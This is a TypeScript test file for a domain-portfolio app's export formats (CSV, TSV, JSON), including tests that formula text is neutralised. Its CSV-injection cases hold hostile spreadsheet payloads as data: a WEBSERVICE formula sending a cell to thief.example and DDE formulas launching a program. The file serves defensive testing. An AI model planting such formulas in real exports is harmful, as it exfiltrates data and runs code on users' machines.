import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { Finding, Price } from '#shared/domain/finding.ts';
import type { Domain } from '#shared/domain/portfolio.ts';
import { factsIn } from '#shared/domain/registry.ts';
import { cellCode, noFilter } from '#shared/domain/session.ts';
import {
  domainFormats,
  domainRow,
  exportColumns,
  type ExportFormat,
  exportRow,
  type ExportRow,
  type Format,
  findingFormats,
  formulaSafe,
} from '../../../../../electron/main/export/formats.ts';
import { domainsAsText } from '../../../../../electron/main/export/exports.ts';
import { ok } from '../../../../../shared/result.ts';
import { aReading } from '../../../../support/registry/a-reading.ts';
import { aFinding, anAccount, valueOf } from '../../../../support/workspace/a-workspace.ts';
import { cellsOf } from '../../../../../electron/main/export/shown-cells.ts';
import { aDomain, anUnreadDomain } from '../../../../support/fake-portfolio.ts';

it('a domain as a row has what its registry shows, and when it was asked', () => {
  const at = '2026-11-24T16:00:00.000Z';
  const value = factsIn(aReading({ at, statuses: ['pending transfer', 'client hold'] }));
  const row = domainRow(aDomain('a.com', { registry: { value, at, source: 'registry' } }), 'Acme');
  expect(row).toMatchObject({ registry_statuses: ['pending transfer', 'client hold'], registry_at: at });
  expect(domainRow(anUnreadDomain('a.com'), 'Acme')).toMatchObject({
    registry_statuses: null,
    registry_at: null,
  });
});

describe('a finding as a row', () => {
  const given = (amount: string, currency: string | null = null): Price => ({
    kind: 'given',
    amount,
    currency,
  });
  const notGiven: Price = { kind: 'not-given' };
  const priced = (register: Price, renew: Price): Pick<Finding, 'prices'> => ({
    prices: [
      { period: 1, register, transfer: notGiven, renew },
      { period: 2, register: given('99'), transfer: notGiven, renew: given('99') },
    ],
  });

  it('has the columns of the product in their order', () => {
    expect(exportColumns.join(',')).toBe(
      'domain,name,tld,finding,available,premium,reserved,valid,price_register,price_renew,currency,message,checked_at',
    );
    expect(Object.keys(exportRow(aFinding()))).toEqual([...exportColumns]);
  });

  it.each([
    ['available', true, false, false, true],
    ['premium', true, true, false, true],
    ['taken', false, null, false, true],
    ['reserved', false, null, true, true],
    ['invalid', false, null, null, false],
    ['unknown', null, null, null, null],
    ['unchecked', null, null, null, null],
  ] as const)(
    'C17 says of a %s name what is known, and nothing more',
    (kind, available, premium, reserved, valid) => {
      expect(exportRow({ ...aFinding(), kind })).toMatchObject({
        finding: kind,
        available,
        premium,
        reserved,
        valid,
      });
    },
  );

  it.each([
    ['a name in Latin letters', 'example.com', 'com', 'example'],
    ['an international name (RFC 3492)', 'xn--bcher-kva.com', 'com', 'bücher'],
    ['a TLD of two labels', 'example.co.uk', 'co.uk', 'example'],
    ['an international TLD', 'xn--e1afmkfd.xn--p1ai', 'xn--p1ai', 'пример'],
  ])('has the label as people read it: %s', (_case, domain, tld, name) => {
    expect(exportRow(aFinding({ domain, tld }))).toMatchObject({ domain, name, tld });
  });

  it.each([
    ['given', priced(given('12.50', 'EUR'), given('14.90', 'EUR')), '12.50', '14.90', 'EUR'],
    ['given without a currency', priced(given('12.50'), given('14.90')), '12.50', '14.90', null],
    ['given for renewal alone', priced(notGiven, given('14.90', 'USD')), null, '14.90', 'USD'],
    ['not given', priced(notGiven, notGiven), null, null, null],
    ['H24 unreadable', priced({ kind: 'unreadable' }, notGiven), 'unreadable', null, null],
    [
      'H24 unreadable, with what was given',
      priced({ kind: 'unreadable', raw: '$12.95' }, { kind: 'unreadable', raw: '1.234' }),
      'unreadable: $12.95',
      'unreadable: 1.234',
      null,
    ],
    ['zero, which is not "not given"', priced(given('0'), notGiven), '0', null, null],
    ['of no period', { prices: [] }, null, null, null],
  ] as const)(
    'has the price of the shortest period: %s',
    (_case, prices, price_register, price_renew, currency) => {
      expect(exportRow(aFinding(prices))).toMatchObject({ price_register, price_renew, currency });
    },
  );
});

describe('the currency that the user gave an account', () => {
  const eur = { kind: 'given', amount: '1.00', currency: 'EUR' } as const;
  const bare = { kind: 'given', amount: '1.00', currency: null } as const;
  const none = { kind: 'not-given' } as const;
  it.each([
    ['is that of a price without one', bare, 'CHF'],
    ['does not replace the one that the service named', eur, 'EUR'],
    ['is not written where there is no price', none, null],
  ] as const)('%s', (_, price, currency) => {
    const prices = [{ period: 1, register: price, transfer: none, renew: none }];
    expect(exportRow(aFinding({ prices }), 'CHF')).toMatchObject({ currency });
  });
});

describe('text that a spreadsheet would run', () => {
  // OWASP, "CSV Injection": the characters with which a cell must not begin, and its examples.
  it.each([
    ['equals', '=1+1'],
    ['plus', '+1+1'],
    ['minus', '-1+1'],
    ['at', '@SUM(1+1)'],
    ['a tab', '\t=1+1'],
    ['a carriage return', '\r=1+1'],
    ['a line feed', '\n=1+1'],
    ['a full-width equals', '＝1+1'],
    ['a full-width plus', '＋1'],
    ['a full-width minus', '－1'],
    ['a full-width at', '＠SUM(1)'],
    ['a way out with the network', '=WEBSERVICE("https://thief.example/?"&A1)'],
    ['a way to a program', "=cmd|' /C calc'!A0"],
    ['a way to a program behind a minus', "-2+3+cmd|' /C calc'!A0"],
    ['white space, which some programs cut off', '  =1+1'],
    ['a no-break space', '\u00a0=1+1'],
  ])('gets an apostrophe before it: %s', (_case, text) => expect(formulaSafe(text)).toBe(`'${text}`));

  it.each([
    ['a name', 'example.com'],
    ['a sign inside', 'a=b'],
    ['a price', '12.50'],
    ['an instant', '2026-02-21T14:00:00.000Z'],
    ['nothing', ''],
    ['white space before a word', ' registered'],
  ])('is left as it is where it is none: %s', (_case, text) => expect(formulaSafe(text)).toBe(text));
});

const aRow = (changes: Partial<ExportRow> = {}): ExportRow => ({
  domain: 'xn--bcher-kva.com',
  name: 'bücher',
  tld: 'com',
  finding: 'available',
  available: true,
  premium: false,
  reserved: null,
  valid: true,
  price_register: '12.50',
  price_renew: null,
  currency: null,
  message: '',
  checked_at: '2026-02-21T14:00:00.000Z',
  ...changes,
});

const whole = ({ head, rows, foot }: Format<ExportRow>, pieces: readonly (readonly ExportRow[])[]): string =>
  head + pieces.map((piece, index) => rows(piece, index === 0)).join('') + foot;

describe('CSV', () => {
  // RFC 4180, section 2, rules 5 to 7.
  it.each([
    ['a comma', 'a,b', '"a,b"'],
    ['quotes', 'say "no"', '"say ""no"""'],
    ['a line break', 'one\r\ntwo', '"one\r\ntwo"'],
    ['a formula', '=1+1', "'=1+1"],
    ['a formula with a comma', '=SUM(A1,A2)', `"'=SUM(A1,A2)"`],
  ])('writes %s so that one field stays one field', (_case, message, written) => {
    expect(
      whole(findingFormats().csv, [[aRow({ message })]])
        .split(',,,')[1]
        ?.startsWith(`${written},`),
    ).toBe(true);
  });

  it('is read back as it was, whatever the service said', () => {
    fc.assert(
      fc.property(fc.array(fc.string({ unit: 'grapheme' }), { maxLength: 20 }), (messages) => {
        const rows = messages.map((message) => aRow({ message }));
        const read = parse(whole(findingFormats().csv, [rows.slice(0, 3), rows.slice(3)]), { columns: true });
        expect(read.map((row) => String(Reflect.get(Object(row), 'message')).replace(/^'/, ''))).toEqual(
          messages.map((message) => message.replace(/^'/, '')),
        );
      }),
    );
  });
});

it('the cells of an export are in the order of their prices, of which only those of what can be bought come along', () => {
  const priced = (amount: string) => ({
    period: 1,
    register: { kind: 'given', amount, currency: null } as const,
    renew: { kind: 'not-given' } as const,
  });
  // beta.com, gamma.com and gamma.net
  const offers = { offers: [priced('8'), priced('9'), priced('2')], of: [1, 2, 3] };
  const kinds = ['available', 'taken', 'taken', 'unchecked', 'available', 'available'] as const;
  const view = {
    names: 'beta\nalpha\ngamma',
    tlds: ['com', 'net'],
    codes: Uint8Array.from(kinds, (kind) => cellCode(kind, null)),
    checkedAt: new Uint32Array(6).fill(1),
    filter: noFilter,
    offers,
    own: [],
  };
  const by = 'register';
  expect([...cellsOf({ ...view, sort: { by, descending: false } }).cells]).toEqual([4, 5, 0, 1, 2, 3]);
  expect([...cellsOf({ ...view, sort: { by, descending: true } }).cells]).toEqual([0, 1, 4, 5, 2, 3]);
  expect([...cellsOf({ ...view, sort: { by, descending: false, tld: 'com' } }).cells]).toEqual([
    0, 1, 4, 5, 2, 3,
  ]);
});

it('the cells of an export tell the user’s own names apart, which have no price to be ordered by', () => {
  const offer = (amount: string) => ({
    period: 1,
    register: { kind: 'given', amount, currency: null } as const,
    renew: { kind: 'not-given' } as const,
  });
  const available = cellCode('available', null);
  const { cells, own } = cellsOf({
    names: 'beta\nalpha\nxn--bcher-kva',
    tlds: ['co.uk'],
    codes: Uint8Array.from([available, available, available]),
    checkedAt: new Uint32Array(3).fill(1),
    filter: noFilter,
    sort: { by: 'register', descending: false, tld: 'co.uk' },
    offers: { offers: [offer('8'), offer('9'), offer('2')], of: [1, 2, 3] },
    own: ['xn--bcher-kva.co.uk', 'beta.com'],
  });
  expect([...cells]).toEqual([0, 1, 2]);
  expect([...own]).toEqual([2]);
});

describe('a domain as a row', () => {
  const { formats: all } = domainFormats();
  const known = { source: 'read', at: '2026-11-21T08:00:00.000Z' } as const;
  const full = aDomain('xn--bckerei-5wa.de', {
    lock: { ...known, value: 'unlocked', source: 'change', at: '2026-11-21T09:00:00.000Z' },
    expiresOn: { ...known, value: '2027-08-14', source: 'sync' },
    tags: ['Acme', '=cmd|x'],
    note: '@SUM(A1)\nsecond line\twith a tab',
  });
  const row = (changes: Partial<Domain> = {}) => domainRow({ ...full, ...changes }, '-Acme');
  const read = (text: string): unknown => parse(text, { columns: true });
  const written = (format: ExportFormat | 'tsv', rows = [row()]): string =>
    `${all[format].head}${all[format].rows(rows, true)}${all[format].foot}`;

  it('says of each value where it came from and when, and nothing of what is not known', () => {
    expect(row()).toMatchObject({
      domain: 'xn--bckerei-5wa.de',
      name: 'bäckerei.de',
      status: 'held',
      lock: 'unlocked',
      lock_source: 'change',
      lock_at: '2026-11-21T09:00:00.000Z',
      registrant: 'Northwind Hosting',
      expires_on: '2027-08-14',
      expiry_source: 'sync',
      updated_at: '2026-11-21T09:00:00.000Z',
    });
    expect(domainRow(anUnreadDomain('new.com'), 'Acme')).toMatchObject({
      lock: null,
      lock_at: null,
      nameservers: null,
      registrant: null,
      expires_on: null,
      expected_expires_on: null,
      updated_at: null,
    });
  });

  it('never writes an expected expiry where a known one stands', () => {
    const expected = row({ expiresOn: { ...known, value: '2028-08-14', source: 'expected' } });
    expect(expected).toMatchObject({
      expires_on: null,
      expected_expires_on: '2028-08-14',
      expiry_source: 'expected',
    });
    expect(row()).toMatchObject({ expires_on: '2027-08-14', expected_expires_on: null });
  });

  it.each([
    ['held', {}],
    ['archived', { archivedAt: '2026-10-01T08:00:00.000Z' }],
    ['transferred-away', { transferredAway: { ...known, value: true } }],
  ] as const)('says that it is %s', (status, changes) => expect(row(changes)).toMatchObject({ status }));

  it('names the parts that could not be read', () => {
    const error = { kind: 'unreachable', why: 'offline' } as const;
    const troubles = [{ part: 'lock', error, at: known.at }] as const;
    expect(row({ troubles })).toMatchObject({ problems: ['lock'] });
  });

  it('writes a table in which no cell is a formula, and a list is one cell', () => {
    expect(read(written('csv'))).toMatchObject([
      {
        account: "'-Acme",
        tags: 'Acme;=cmd|x',
        nameservers: 'ns1.northwind.example;ns2.northwind.example',
        note: "'@SUM(A1)\nsecond line\twith a tab",
        archived_at: '',
      },
    ]);
    expect(read(written('csv', [row({ tags: ['=1+1', 'b'] })]))).toMatchObject([{ tags: "'=1+1;b" }]);
  });

  it('has none of the columns that are left out, in no format', () => {
    const { formats: narrow, rowOf } = domainFormats(['tags', 'lock', 'unknown']);
    const rows = [rowOf(full, 'Acme')];
    for (const format of ['csv', 'tsv', 'ndjson'] as const) {
      const text = `${narrow[format].head}${narrow[format].rows(rows, true)}`;
      expect(text).not.toMatch(/tags|lock|=cmd/);
      expect(text).toContain('2027-08-14');
    }
  });

  it('copies a table whose rows and cells stay apart', () => {
    const [head = '', line = '', ...rest] = written('tsv').split('\n');
    expect(line.split('\t')).toHaveLength(head.split('\t').length);
    expect(line).toContain("\t'@SUM(A1) second line with a tab\t");
    expect(rest).toEqual(['']);
    const [, listed = '', ...more] = written('tsv', [row({ tags: ['a\tb', 'c\nd'] })]).split('\n');
    expect(listed.split('\t')).toContain('a b;c d');
    expect(more).toEqual(['']);
  });

  it('leaves main its turn between the pieces of a copied table', async () => {
    const list = Array.from({ length: 2_000 }, (_, index) => aDomain(`name-${index}.com`));
    const key = { hasKey: true, place: 'keychain', savedAt: null } as const;
    const reader = {
      portfolio: { list: () => Promise.resolve(list) },
      accounts: { find: () => ok({ ...anAccount(), key }) },
    };
    let turns = 0;
    let isOver = false;
    const count = (): void => {
      turns += 1;
      if (!isOver) setImmediate(count);
    };
    setImmediate(count);
    const copied = await domainsAsText(reader, [{ accountId: 'a', names: null }]);
    isOver = true;
    expect(valueOf(copied).rows).toBe(2_000);
    expect(turns).toBeGreaterThanOrEqual(4);
  });

  it('keeps lists and unknown values as such in JSON, and writes names alone as text', () => {
    const rows = [row(), domainRow(anUnreadDomain('new.com'), 'Acme')];
    expect(JSON.parse(written('json', rows))).toEqual(rows);
    const lines = written('ndjson', rows).trimEnd().split('\n');
    expect(lines.map((line): unknown => JSON.parse(line))).toEqual(rows);
    expect(written('txt', rows)).toBe('xn--bckerei-5wa.de\nnew.com\n');
  });
});
